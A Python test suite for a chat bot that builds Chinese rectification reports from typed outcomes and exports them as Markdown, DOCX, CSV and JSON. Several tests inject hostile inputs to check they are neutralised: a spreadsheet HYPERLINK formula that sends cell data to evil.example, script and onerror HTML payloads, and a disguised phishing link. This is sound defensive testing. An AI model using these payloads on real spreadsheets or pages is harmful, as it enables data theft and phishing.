"""`workbot report`: the seed's rectification report rebuilt from outcomes typed in the chat.

The fixture replays two items of the seed (宜昌市教育局, 2019年12月4日) through the local
group: the office posts each problem as a notice for 张三 and 李四, both answer with
完成 #N / 措施 / 成效 using the seed's own words (their measures overlap, written a little
differently), and the CLI renders the report from that database.
"""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import datetime as dt
import io
import json
import re
import subprocess
import sys
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from zoneinfo import ZoneInfo

import docx
import pytest
from aiohttp.test_utils import TestClient, TestServer
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.oxml.ns import qn
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from sqlalchemy import select
from test_chat_local import Room, app_config, post_notice

from bot.app import create_app
from bot.appkeys import BOT
from bot.cli import main
from bot.core.i18n import Translator
from bot.core.report_format import (
    EARLIEST_DAY,
    FIELDS,
    FORMULA_STARTS,
    LATEST_DAY,
    PeriodOutOfRange,
    chinese_numeral,
    format_date,
    inert,
    markdown_text,
    measure_key,
    merge_measures,
    period,
    render_markdown,
    report_office,
)
from handlers.office import report_period
from handlers.refusals import Refusal
from storage.db import Database
from storage.domain import Metric
from storage.models import Assignment, Outcome
from storage.reports import OutcomeRow
from storage.types import AssignmentState, NoticeKind

from support import seed_people

SHANGHAI = ZoneInfo("Asia/Shanghai")

# The office (王五) is in the bureau itself, so the report closes with the seed's issuer.
PEOPLE = """id,name,department,roles
p001,张三,基础教育科,staff
p002,李四,基础教育科,staff;head
p003,王五,宜昌市教育局,office
p004,赵六,督导科,staff
""".encode()

# Seed item 一: the problem shortened to its first clause; 张三 reports measures 一 and 二,
# 李四 measures 一 (full-width commas) and 三.
ITEM1_TITLE = "形式主义、官僚主义有所抬头"
M1_1 = "要求各科室加强源头控制,精简发文,对于确无必要的文件坚决不予印发"
M1_1_LI = "要求各科室加强源头控制，精简发文，对于确无必要的文件坚决不予印发"
M1_2 = (
    "减少督查考核等相关检查工作,年初统筹制定督查检查考核计划,"
    "对未列入计划的督查检查考核事项一律不再实施"
)
M1_3 = "对各项工作统筹安排,增强工作的计划性,多从基层出发考虑事情布置工作,为基层减负"
R1_ZHANG = (
    "2019年教育局年度工作按计划进行,统筹安排到位,发文数量减少30%以上,"
    "发文程序严格规范,科室通知、督查考核、会议等大幅减少。"
)
R1_LI = "发文程序严格规范,科室通知、督查考核、会议等大幅减少。"

# Seed item 二: 张三 reports both measures, 李四 the second one again (spacing differs).
ITEM2_TITLE = "qq工作群、微信工作群过多"
M2_1 = (
    "立即开展了qq工作群、微信工作群的专项清理工作。因工作需要确需建立的工作群,"
    "实行“谁建群、谁负责”原则,要求群主加强日常监管,"
    "因临时工作建立的qq群、微信群在工作完成后立即解散"
)
M2_2 = "正式工作部署尽量通过电子政务办公门户或电话下达"
M2_2_LI = "正式工作部署尽量 通过电子政务办公门户 或电话下达"
R2_ZHANG = (
    "经过清理,截止11月30日局机关及各科室由原来的23个qq群或微信群解散了22个,"
    "局机关只保留了一个微信群,各科室已不再有单独的群。"
)
R2_LI = "工作布置通过电子政务办公门户或电话下达,保证工作任务及时布置传达。"


def done(notice_id: int, measures: list[str], results: str) -> str:
    """An outcome as typed in the group: 完成 #N, numbered 措施, then 成效."""
    numbered = "\n".join(f"{i}. {m}。" for i, m in enumerate(measures, 1))
    return f"完成 #{notice_id}\n措施：\n{numbered}\n成效：{results}"


@dataclass
class Reported:
    """The database after the chat, and how to run the CLI against it."""

    db: Database
    workdir: Path
    config: Path
    notices: tuple[int, int]
    today: dt.date

    async def run(self, *argv: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
        """The CLI in-process (in a thread: it runs its own event loop)."""
        capsys.readouterr()
        code = await asyncio.to_thread(main, ["-c", str(self.config), *argv], {})
        out, err = capsys.readouterr()
        return code, out, err

    def period(self) -> tuple[str, str]:
        """--since / --until around today (a day either side: no midnight race)."""
        return (
            (self.today - dt.timedelta(days=1)).isoformat(),
            (self.today + dt.timedelta(days=1)).isoformat(),
        )

    async def export(self, fmt: str, *, capsys: pytest.CaptureFixture[str]) -> Path:
        """Write the report of period() as `fmt` with -o to report.<fmt> in the work dir; that
        file (the command must succeed)."""
        since, until = self.period()
        target = self.workdir / f"report.{fmt}"
        code, _, err = await self.run(
            "report", "--since", since, "--until", until, "--format", fmt, "-o", str(target),
            capsys=capsys,
        )  # fmt: skip
        assert code == 0, err
        return target

    async def outcomes(self) -> list[tuple[str, Outcome]]:
        """(person id, outcome) in outcome id order."""
        async with self.db.read() as s:
            found = (
                await s.execute(
                    select(Assignment.person_id, Outcome)
                    .join(Assignment, Assignment.id == Outcome.assignment_id)
                    .order_by(Outcome.id)
                )
            ).all()
        return [(pid, outcome) for pid, outcome in found]


@pytest.fixture
async def reported(db: Database, tmp_path: Path) -> AsyncIterator[Reported]:
    await seed_people(db, dt.datetime.now(dt.UTC), PEOPLE)
    app = create_app(app_config(db), {})
    async with TestClient(TestServer(app)) as client:
        room = Room(client, db)
        first = await post_notice(
            room,
            f"通知 {ITEM1_TITLE}\n对象：@张三 @李四\n要求：成效\n"
            "截止：2030-12-10 17:00\n文号：宜教办发[2019]41号",
        )
        second = await post_notice(room, f"通知 {ITEM2_TITLE}\n对象：@张三 @李四\n要求：成效")
        for text in (
            ("p001", done(first, [M1_1, M1_2], R1_ZHANG)),
            ("p002", done(first, [M1_1_LI, M1_3], R1_LI)),
            ("p001", done(second, [M2_1, M2_2], R2_ZHANG)),
            ("p002", done(second, [M2_2_LI], R2_LI)),
        ):
            await room.post(*text)
            await room.settle()
    url = db.url.render_as_string(hide_password=False)
    config = tmp_path / "config.toml"
    config.write_text(
        f'[bot]\nlanguage = "zh-CN"\ntimezone = "Asia/Shanghai"\n[database]\nurl = "{url}"\n',
        encoding="utf-8",
    )
    found = Reported(db, tmp_path, config, (first, second), dt.datetime.now(SHANGHAI).date())
    # The chat stored what was typed: the report has real records to work from.
    outcomes = await found.outcomes()
    assert [(pid, o.results) for pid, o in outcomes] == [
        ("p001", R1_ZHANG),
        ("p002", R1_LI),
        ("p001", R2_ZHANG),
        ("p002", R2_LI),
    ]
    assert outcomes[0][1].measures == [M1_1, M1_2]
    assert outcomes[3][1].measures == [M2_2_LI]
    yield found


def closing_date(day: dt.date) -> str:
    return f"{day.year}年{day.month}月{day.day}日"


async def test_markdown_follows_the_seed(
    reported: Reported, capsys: pytest.CaptureFixture[str]
) -> None:
    since, until = reported.period()
    code, out, err = await reported.run(
        "report", "--since", since, "--until", until, "--format", "md", capsys=capsys
    )
    assert code == 0, err
    until_day = dt.date.fromisoformat(until)
    expected = "\n\n".join(
        [
            "# 整改落实情况报告",
            f"## 一、针对“{ITEM1_TITLE}”问题",
            "### 采取的措施",
            f"1. {M1_1}（张三、李四）\n2. {M1_2}（张三）\n3. {M1_3}（李四）",
            "### 取得的成效",
            f"- 张三：{R1_ZHANG}\n- 李四：{R1_LI}",
            "主要指标：发文数量减少 30%（张三）",
            f"## 二、针对“{ITEM2_TITLE}”问题",
            "### 采取的措施",
            f"1. {M2_1}（张三）\n2. {M2_2}（张三、李四）",
            "### 取得的成效",
            f"- 张三：{R2_ZHANG}\n- 李四：{R2_LI}",
            # Metrics are the numbers with units in 成效, named by the words before them.
            "主要指标：截止11月30日局机关及各科室由原来的 23个（张三）；"
            "qq群或微信群解散了 22个（张三）",
            "宜昌市教育局",
            closing_date(until_day),
        ]
    )
    assert out == expected + "\n"
    # The same to a file, which says where it went.
    target = reported.workdir / "report.md"
    code, out, err = await reported.run(
        "report", "--since", since, "--until", until, "-o", str(target), capsys=capsys
    )
    assert code == 0, err
    assert out == ""
    assert "报告已写入" in err and "2 项" in err and "4 份" in err
    assert target.read_text(encoding="utf-8").startswith("# 整改落实情况报告\n")


async def test_docx_has_headings_and_list_styles(
    reported: Reported, capsys: pytest.CaptureFixture[str]
) -> None:
    since, until = reported.period()
    document = docx.Document(str(await reported.export("docx", capsys=capsys)))
    paragraphs = document.paragraphs
    by_style: dict[str, list[str]] = {}
    for p in paragraphs:
        by_style.setdefault(p.style.name if p.style is not None else "", []).append(p.text)
    assert by_style["Title"] == ["整改落实情况报告"]
    assert by_style["Heading 1"] == [f"一、针对“{ITEM1_TITLE}”问题", f"二、针对“{ITEM2_TITLE}”问题"]
    assert by_style["Heading 2"] == ["采取的措施", "取得的成效"] * 2
    assert by_style["List Number"] == [
        f"{M1_1}（张三、李四）",
        f"{M1_2}（张三）",
        f"{M1_3}（李四）",
        f"{M2_1}（张三）",
        f"{M2_2}（张三、李四）",
    ]
    assert by_style["List Bullet"] == [
        f"张三：{R1_ZHANG}",
        f"李四：{R1_LI}",
        f"张三：{R2_ZHANG}",
        f"李四：{R2_LI}",
    ]
    # Each item's measures are numbered from 1 again: their own numbering instance.
    numbered = [p for p in paragraphs if p.style is not None and p.style.name == "List Number"]
    num_ids = [p._p.pPr.numPr.numId.val for p in numbered]
    assert num_ids[0] == num_ids[1] == num_ids[2] != num_ids[3] == num_ids[4]
    numbering = document.part.numbering_part.element
    for num_id in {num_ids[0], num_ids[3]}:
        num = numbering.num_having_numId(num_id)
        start = num.find(f"{qn('w:lvlOverride')}/{qn('w:startOverride')}")
        assert start is not None and start.get(qn("w:val")) == "1"
    # Closing: the office and the date, right-aligned, as the last paragraphs.
    office, date = paragraphs[-2], paragraphs[-1]
    assert (office.text, date.text) == ("宜昌市教育局", closing_date(dt.date.fromisoformat(until)))
    assert office.alignment == date.alignment == WD_ALIGN_PARAGRAPH.RIGHT
    # Without -o a binary document is refused rather than sprayed on a terminal.
    code, out, err = await reported.run(
        "report", "--since", since, "--until", until, "--format", "docx", capsys=capsys
    )
    assert code == 2
    assert out == "" and "-o" in err


async def test_csv_and_json_export_one_row_per_outcome(
    reported: Reported, capsys: pytest.CaptureFixture[str]
) -> None:
    since, until = reported.period()
    first, second = reported.notices
    outcomes = await reported.outcomes()

    raw = (await reported.export("csv", capsys=capsys)).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel
    table = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert list(table[0]) == list(FIELDS)
    assert len(table) == len(outcomes) == 4
    assert [(r["notice_id"], r["assignee_id"], r["assignee_name"]) for r in table] == [
        (str(first), "p001", "张三"),
        (str(first), "p002", "李四"),
        (str(second), "p001", "张三"),
        (str(second), "p002", "李四"),
    ]
    assert [r["outcome_id"] for r in table] == [str(o.id) for _, o in outcomes]
    assert [r["title"] for r in table] == [ITEM1_TITLE] * 2 + [ITEM2_TITLE] * 2
    assert [r["doc_number"] for r in table] == ["宜教办发[2019]41号"] * 2 + ["", ""]
    assert {r["department"] for r in table} == {"基础教育科"}
    assert {r["issuer_department"] for r in table} == {"宜昌市教育局"}
    assert [r["results"] for r in table] == [R1_ZHANG, R1_LI, R2_ZHANG, R2_LI]
    assert table[0]["measures"] == f"{M1_1}；{M1_2}"
    assert table[0]["metrics"] == "发文数量减少 30 %"
    assert table[1]["metrics"] == ""
    assert table[0]["deadline"] == "2030-12-10T17:00:00+08:00"
    assert table[2]["deadline"] == ""
    for r in table:
        assert r["state"] == "done" and r["late"] == "false"
        for column in ("notice_created_at", "reported_at"):
            stamp = dt.datetime.fromisoformat(r[column])
            assert stamp.utcoffset() == dt.timedelta(hours=8)
            assert stamp.date() in (reported.today, reported.today - dt.timedelta(days=1))

    code, out, err = await reported.run(
        "report", "--since", since, "--until", until, "--format", "json", capsys=capsys
    )
    assert code == 0, err
    records = json.loads(out)
    assert len(records) == 4
    assert all(list(r) == list(FIELDS) for r in records)
    for record, (pid, outcome) in zip(records, outcomes, strict=True):
        assert record["outcome_id"] == outcome.id
        assert record["assignee_id"] == pid
        assert record["measures"] == outcome.measures
        assert record["results"] == outcome.results
        assert record["metrics"] == outcome.metrics
        assert dt.datetime.fromisoformat(record["reported_at"]) == outcome.created_at
    assert records[0]["metrics"] == [{"name": "发文数量减少", "value": 30.0, "unit": "%"}]
    assert records[0]["doc_number"] == "宜教办发[2019]41号" and records[2]["doc_number"] is None
    assert records[0]["kind"] == "notice"


async def test_the_period_selects_by_reporting_time(
    reported: Reported, capsys: pytest.CaptureFixture[str]
) -> None:
    # The seed's own dates: nothing was reported then, so the report says so, closes with
    # the fallback office and the seed's date.
    code, out, err = await reported.run(
        "report", "--since", "2019-12-01", "--until", "2019-12-04", capsys=capsys
    )
    assert code == 0, err
    assert out == "# 整改落实情况报告\n\n本期间没有已完成的成效记录。\n\n办公室\n\n2019年12月4日\n"
    code, out, _ = await reported.run(
        "report", "--since", "2019-12-01", "--until", "2019-12-04", "--format", "csv",
        capsys=capsys,
    )  # fmt: skip
    assert out == "\ufeff" + ",".join(FIELDS) + "\r\n"
    # Reported today: a period of just today holds all four.
    today = reported.today.isoformat()
    code, out, _ = await reported.run(
        "report", "--since", today, "--until", today, "--format", "json", capsys=capsys
    )
    if dt.datetime.now(SHANGHAI).date() == reported.today:  # not across midnight
        assert len(json.loads(out)) == 4
    # A returned outcome is not a result: it leaves the report until it is reported again.
    async with reported.db.transaction() as s:
        a = (
            await s.execute(
                select(Assignment).where(
                    Assignment.notice_id == reported.notices[1], Assignment.person_id == "p002"
                )
            )
        ).scalar_one()
        a.state = AssignmentState.RETURNED
    since, until = reported.period()
    code, out, _ = await reported.run(
        "report", "--since", since, "--until", until, "--format", "md", capsys=capsys
    )
    assert f"2. {M2_2}（张三）" in out and R2_LI not in out


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--since", "2019-13-01", "--until", "2019-12-04"], "--since"),
        (["--since", "2019-12-01", "--until", "2019/12/04"], "--until"),
        (["--since", "20191201", "--until", "2019-12-04"], "--since"),
        (["--since", "2019-12-05", "--until", "2019-12-04"], "--since 2019-12-05"),
        (["--since", "2019-12-01", "--until", "2019-12-04", "--format", "docx"], "-o"),
        # Days no report may cover (issue 13, item 10): refused, naming the option.
        (["--since", "0001-01-01", "--until", "2019-12-04"], "--since：0001-01-01 超出"),
        (["--since", "2019-12-01", "--until", "9999-12-31"], "--until：9999-12-31 超出"),
    ],
)
def test_bad_arguments_exit_2_naming_the_option(
    argv: list[str], message: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "config.toml"
    config.write_text(
        f'[database]\nurl = "sqlite+aiosqlite:///{tmp_path / "wb.db"}"\n', encoding="utf-8"
    )
    code = main(["-c", str(config), "report", *argv], {})
    out, err = capsys.readouterr()
    assert code == 2
    assert out == ""
    assert message in err and "Traceback" not in err
    assert not (tmp_path / "wb.db").exists()  # refused before the database is opened


def test_unwritable_output_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db_path = tmp_path / "wb.db"
    config = tmp_path / "config.toml"
    config.write_text(f'[database]\nurl = "sqlite+aiosqlite:///{db_path}"\n', encoding="utf-8")
    assert main(["-c", str(config), "migrate"], {}) == 0
    target = tmp_path / "missing" / "r.md"
    code = main(
        ["-c", str(config), "report", "--since", "2019-12-01", "--until", "2019-12-04",
         "-o", str(target)],
        {},
    )  # fmt: skip
    _, err = capsys.readouterr()
    assert code == 2
    assert f"{target}：无法写入" in err


def test_docx_goes_to_stdout_only_when_asked(tmp_path: Path) -> None:
    config = tmp_path / "config.toml"
    config.write_text(
        f'[database]\nurl = "sqlite+aiosqlite:///{tmp_path / "wb.db"}"\n', encoding="utf-8"
    )
    assert main(["-c", str(config), "migrate"], {}) == 0
    done = subprocess.run(
        [sys.executable, "-m", "bot", "-c", str(config), "report", "--since", "2019-12-01",
         "--until", "2019-12-04", "--format", "docx", "-o", "-"],
        capture_output=True, check=False, timeout=60,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    document = docx.Document(io.BytesIO(done.stdout))
    assert [p.text for p in document.paragraphs] == [
        "整改落实情况报告",
        "本期间没有已完成的成效记录。",
        "办公室",
        "2019年12月4日",
    ]


# --- the pure pieces ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("n", "text"),
    [
        (1, "一"), (2, "二"), (9, "九"), (10, "十"), (11, "十一"), (19, "十九"), (20, "二十"),
        (21, "二十一"), (99, "九十九"), (100, "一百"), (101, "一百零一"), (110, "一百一十"),
        (111, "一百一十一"), (1000, "一千"), (1001, "一千零一"), (1010, "一千零一十"),
        (2019, "二千零一十九"), (10000, "一万"), (10001, "一万零一"), (12345, "一万二千三百四十五"),
        (100000, "十万"), (110000, "十一万"),
    ],
)  # fmt: skip
def test_chinese_numerals(n: int, text: str) -> None:
    assert chinese_numeral(n) == text


def test_chinese_numerals_refuse_out_of_range() -> None:
    with pytest.raises(ValueError):
        chinese_numeral(0)
    with pytest.raises(ValueError):
        chinese_numeral(100_000_000)


def row(
    notice_id: int,
    name: str,
    measures: tuple[str, ...],
    results: str = "",
    *,
    issuer: str | None = "办公室",
    metrics: tuple[Metric, ...] = (),
) -> OutcomeRow:
    when = dt.datetime(2019, 12, 3, 1, 0, tzinfo=dt.UTC)
    return OutcomeRow(
        outcome_id=notice_id * 10 + len(name),
        notice_id=notice_id,
        title=f"问题{notice_id}",
        doc_number=None,
        kind=NoticeKind.NOTICE,
        issuer_department=issuer,
        notice_created_at=when,
        deadline=None,
        assignment_id=notice_id * 10 + len(name),
        person_id=name,
        person_name=name,
        department="基础教育科",
        state=AssignmentState.DONE,
        late=False,
        measures=measures,
        results=results,
        metrics=metrics,
        reported_at=when,
    )


def test_measures_merge_ignoring_whitespace_and_punctuation() -> None:
    assert measure_key("组织 自查，召开会议。") == measure_key("组织自查,召开会议")
    assert measure_key("Ｑ群清理") == measure_key("q群清理")
    assert measure_key("减少30%") != measure_key("减少3%")
    merged = merge_measures(
        [
            row(1, "张三", ("组织自查", "召开专题会议。")),
            row(1, "李四", ("组织 自查；", "整改台账")),
            row(1, "王五", ("召开专题会议", "组织自查")),
        ]
    )
    assert [(m.text, m.names) for m in merged] == [
        ("组织自查", ("张三", "李四", "王五")),
        ("召开专题会议。", ("张三", "王五")),
        ("整改台账", ("李四",)),
    ]


def test_office_is_the_most_common_issuer_per_notice_else_the_fallback() -> None:
    rows = [
        row(1, "张三", (), issuer="基础教育科"),
        row(1, "李四", (), issuer="基础教育科"),
        row(1, "赵六", (), issuer="基础教育科"),
        row(2, "张三", (), issuer="办公室"),
        row(3, "张三", (), issuer="办公室"),
    ]
    # Counted per notice, not per outcome.
    assert report_office(rows, "办公室") == "办公室"
    assert report_office(rows[:3], "办公室") == "基础教育科"
    assert report_office([row(1, "张三", (), issuer=None)], "办公室") == "办公室"
    assert report_office([], "Office") == "Office"


def test_english_catalog_and_seed_date() -> None:
    rows = [
        row(1, "Zhang", ("self-check",), "fewer notices", metrics=(Metric("fewer", 30.0, "%"),)),
        row(2, "Li", (), ""),
    ]
    t = Translator("en")
    assert format_date(dt.date(2019, 12, 4), Translator("zh-CN")) == "2019年12月4日"
    assert format_date(dt.date(2019, 12, 4), t) == "2019-12-04"
    text = render_markdown(rows, "Office", dt.date(2019, 12, 4), t=t)
    assert text.split("\n\n") == [
        "# Rectification report",
        "## 1. On the problem “问题1”",
        "### Measures taken",
        "1. self-check (Zhang)",
        "### Results achieved",
        "- Zhang: fewer notices",
        "Key figures: fewer 30% (Zhang)",
        "## 2. On the problem “问题2”",
        "### Measures taken",
        "(none reported)",
        "### Results achieved",
        "(none reported)",
        "Office",
        "2019-12-04\n",
    ]


def test_multiline_results_stay_verbatim_in_one_list_item() -> None:
    results = "一是修订了办法。\n二是加强了督查。"
    text = render_markdown([row(1, "张三", ("修订办法",), results)], "办公室", dt.date(2019, 12, 4))
    assert "- 张三：一是修订了办法。\n  二是加强了督查。" in text


@given(st.text(max_size=40))
def test_no_csv_cell_starts_like_a_formula(text: str) -> None:
    cell = inert(text)
    assert isinstance(cell, str)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or (cell == "'" + text and text.startswith(FORMULA_STARTS))


async def test_formulas_typed_in_chat_are_exported_as_text(
    db: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The attack: 措施 =HYPERLINK(…) and 成效 =1+1, reported in chat, then exported as CSV
    (by the CLI and by the signed download); a spreadsheet must show them, not run them."""
    await seed_people(db, dt.datetime.now(dt.UTC), PEOPLE)
    app = create_app(app_config(db), {})
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    async with TestClient(TestServer(app)) as client:
        room = Room(client, db)
        notice = await post_notice(room, f"通知 {ITEM1_TITLE}\n对象：@张三\n要求：成效")
        await room.post("p001", f"完成 #{notice}\n措施：1. {hyperlink}\n成效：=1+1")
        await room.settle()
        async with db.read() as s:
            stored = (await s.scalars(select(Outcome))).one()
        assert (stored.measures, stored.results) == ([hyperlink], "=1+1")  # kept as written
        today = dt.datetime.now(SHANGHAI).date().isoformat()
        links = client.app[BOT].report_links
        assert links is not None
        day = dt.date.fromisoformat(today)
        expires = dt.datetime.now(dt.UTC) + dt.timedelta(hours=1)
        path = "/" + links.url(day, day, expires).split("/", 3)[3]
        download = await client.get(path, params={"format": "csv"})
        assert download.status == 200
        downloaded = (await download.read()).decode("utf-8-sig")
        json_export = await client.get(path, params={"format": "json"})
        assert (await json_export.json())[0]["results"] == "=1+1"  # JSON stays verbatim
    config = tmp_path / "config.toml"
    url = db.url.render_as_string(hide_password=False)
    config.write_text(f'[database]\nurl = "{url}"\n', encoding="utf-8")
    capsys.readouterr()
    argv = ["-c", str(config), "report", "--since", today, "--until", today, "--format", "csv"]
    code = await asyncio.to_thread(main, argv, {})
    printed = capsys.readouterr().out
    assert code == 0
    for exported in (downloaded, printed.removeprefix("\ufeff")):
        (row,) = csv.DictReader(io.StringIO(exported, newline=""))
        assert row["measures"] == "'" + hyperlink
        assert row["results"] == "'=1+1"


# -- the Markdown report shows what people wrote as text (issue 13, item 8) ----------------------

# CommonMark with GitHub's tables and strikethrough, as a Markdown viewer renders the report.
MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
# The report's own structure; anything else in a rendered report came from what people wrote.
STRUCTURE = {
    "heading_open",
    "heading_close",
    "paragraph_open",
    "paragraph_close",
    "ordered_list_open",
    "ordered_list_close",
    "bullet_list_open",
    "bullet_list_close",
    "list_item_open",
    "list_item_close",
    "inline",
    "text",
    "softbreak",
}
SYNTAX_TEXT = st.lists(
    st.sampled_from(
        [*"\\`*_[]()<>!&#;|~-+=.:) \t\n\r", "1.", "    ", "script", "lt", "登记", "http://e.x"]
    ),
    max_size=30,
).map("".join) | st.text(st.characters(exclude_characters="\x00"), max_size=40)
HOSTILE = "[登记链接](http://evil.example/login) <@all> <script>alert(1)</script>"


def tokens(markdown: str) -> list[Token]:
    """Every token of a rendered document, inline children included."""
    found: list[Token] = []
    for token in MARKDOWN.parse(markdown):
        found.append(token)
        found.extend(token.children or ())
    return found


def shown(markdown: str) -> str:
    """The text a reader sees, with whitespace runs as one space."""
    parts = [
        t.content if t.type == "text" else " "
        for t in tokens(markdown)
        if t.type in ("text", "softbreak")
    ]
    return " ".join("".join(parts).split())


def words(text: str) -> str:
    return " ".join(text.split())


@given(SYNTAX_TEXT)
def test_markdown_text_renders_as_the_text_itself(text: str) -> None:
    escaped = markdown_text(text)
    assert {t.type for t in tokens(escaped)} <= STRUCTURE
    assert shown(escaped) == words(text)


@given(SYNTAX_TEXT.filter(str.strip), SYNTAX_TEXT, SYNTAX_TEXT, SYNTAX_TEXT, SYNTAX_TEXT)
def test_only_the_reports_own_structure_renders(
    title: str, measure: str, results: str, name: str, office: str
) -> None:
    reported = row(1, name or "张三", (measure,), results, metrics=(Metric(name, 3.0, office),))
    reported = dataclasses.replace(reported, title=title)
    text = render_markdown([reported], office or "办公室", dt.date(2019, 12, 4))
    found = tokens(text)
    assert {t.type for t in found} <= STRUCTURE
    # The title, the two section headings and the document's title: nothing else is a heading.
    assert [t.tag for t in found if t.type == "heading_open"] == ["h1", "h2", "h3", "h3"]
    seen = shown(text)
    for written in (title, measure.rstrip("。；;，,、 "), results, name, office):
        assert words(written) in seen


def test_a_hostile_title_and_script_in_the_markdown_report_stay_text() -> None:
    reported = dataclasses.replace(
        row(
            1, "张三<b>", ("<script>steal()</script>",), "**成效** ![x](http://evil.example/p.png)"
        ),
        title=HOSTILE,
    )
    text = render_markdown([reported], "办公室 <img src=x onerror=alert(1)>", dt.date(2019, 12, 4))
    assert not re.search(r"(?<!\\)[<\]]", text)  # no "<" or "]" without its backslash
    html = MARKDOWN.render(text)
    assert "<script" not in html and "<a " not in html and "<img" not in html
    assert "<strong>" not in html and "<b>" not in html
    assert "&lt;script&gt;steal()&lt;/script&gt;" in html
    assert shown(text).count(words(HOSTILE)) == 1


async def test_the_markdown_report_of_a_hostile_notice_has_no_raw_html(
    db: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The attack: a title with a disguised link and a mention, and <script> in 措施 and 成效,
    reported in chat, then exported as Markdown by the signed download and the CLI."""
    await seed_people(db, dt.datetime.now(dt.UTC), PEOPLE)
    app = create_app(app_config(db), {})
    async with TestClient(TestServer(app)) as client:
        room = Room(client, db)
        notice = await post_notice(room, f"通知 {HOSTILE}\n对象：@张三\n要求：成效")
        await room.post(
            "p001",
            f"完成 #{notice}\n措施：<script>alert(1)</script>\n成效：[点我](http://evil.example)",
        )
        await room.settle()
        links = client.app[BOT].report_links
        assert links is not None
        day = dt.datetime.now(SHANGHAI).date()
        expires = dt.datetime.now(dt.UTC) + dt.timedelta(hours=1)
        path = "/" + links.url(day, day, expires).split("/", 3)[3]
        download = await client.get(path, params={"format": "md"})
        assert download.status == 200
        downloaded = await download.text()
    config = tmp_path / "config.toml"
    url = db.url.render_as_string(hide_password=False)
    config.write_text(f'[database]\nurl = "{url}"\n', encoding="utf-8")
    capsys.readouterr()
    argv = ["-c", str(config), "report", "--since", day.isoformat(), "--until", day.isoformat()]
    assert await asyncio.to_thread(main, argv, {}) == 0
    printed = capsys.readouterr().out
    for report in (downloaded, printed):
        assert not re.search(r"(?<!\\)[<\]]", report)  # no "<" or "]" without its backslash
        html = MARKDOWN.render(report)
        assert "<script" not in html and "<a " not in html
        assert words(HOSTILE) in shown(report) and "<script>alert(1)</script>" in shown(report)


# -- report periods stay within the days a report may cover (issue 13, item 10) ----------------

ZONES = st.sampled_from(
    [dt.UTC, SHANGHAI, ZoneInfo("Pacific/Kiritimati"), ZoneInfo("Pacific/Pago_Pago")]
)


@given(st.dates(), st.dates(), ZONES)
def test_a_period_of_any_two_days_is_bounds_or_a_clear_refusal(
    since: dt.date, until: dt.date, tz: dt.tzinfo
) -> None:
    try:
        start, end = period(since, until, tz)
    except PeriodOutOfRange as exc:
        assert not EARLIEST_DAY <= exc.day <= LATEST_DAY
        return
    except ValueError:
        assert since > until
        return
    # Both ends convert to UTC (as the database stores them) and back without overflow.
    assert start.astimezone(dt.UTC) < end.astimezone(dt.UTC)
    assert (end - start).days >= 1


@given(
    st.one_of(
        st.tuples(st.dates(), st.dates()).map(lambda d: f"{d[0]}..{d[1]}"),
        st.tuples(st.integers(0, 9999), st.integers(0, 13)).map(lambda m: f"{m[0]:04d}-{m[1]}"),
        st.text(max_size=25),
    ),
    st.dates(EARLIEST_DAY, LATEST_DAY),
)
def test_the_chat_period_of_any_text_is_a_period_or_a_refusal(text: str, today: dt.date) -> None:
    try:
        first, end = report_period(text, today)
    except Refusal as refusal:
        assert refusal.key in ("chat.report_usage", "chat.report_out_of_range")
        return
    assert EARLIEST_DAY <= first < end <= LATEST_DAY + dt.timedelta(days=1)
    for tz in (dt.UTC, SHANGHAI):
        start = dt.datetime.combine(first, dt.time(0), tzinfo=tz).astimezone(dt.UTC)
        assert start < dt.datetime.combine(end, dt.time(0), tzinfo=tz).astimezone(dt.UTC)


async def test_extreme_periods_are_refused_in_chat_and_by_a_genuine_link(db: Database) -> None:
    """The attack: 报告 0001-01-01..9999-12-30 in chat, and a correctly signed report link for
    0001-01-01..9999-12-31; both used to end in an unexpected error."""
    await seed_people(db, dt.datetime.now(dt.UTC), PEOPLE)
    app = create_app(app_config(db), {})
    async with TestClient(TestServer(app)) as client:
        room = Room(client, db)
        for text in ("报告 0001-01-01..9999-12-30", "报告 9999-12", "报告 0000-01", "报告 1999-12"):
            await room.post("p003", text)
            await room.settle()
            assert (await room.dms("p003"))[-1] == "报告期间须在 2000-01-01 至 2099-12-31 之间。"
        links = client.app[BOT].report_links
        assert links is not None
        expires = dt.datetime.now(dt.UTC) + dt.timedelta(hours=1)
        for first, last in (
            (dt.date(1, 1, 1), dt.date(9999, 12, 31)),
            (dt.date(2019, 12, 1), dt.date(9999, 12, 31)),
            (dt.date(2019, 12, 2), dt.date(2019, 12, 1)),
        ):
            path = "/" + links.url(first, last, expires).split("/", 3)[3]
            for fmt in ("docx", "md", "csv"):
                answer = await client.get(path, params={"format": fmt})
                assert answer.status == 400
                error = (await answer.json())["error"]
                assert error["code"] == "invalid_period"
                assert error["message"] == (
                    "该链接的报告期间无效：须在 2000-01-01 至 2099-12-31 之间，"
                    "且起始日不晚于结束日。"
                )
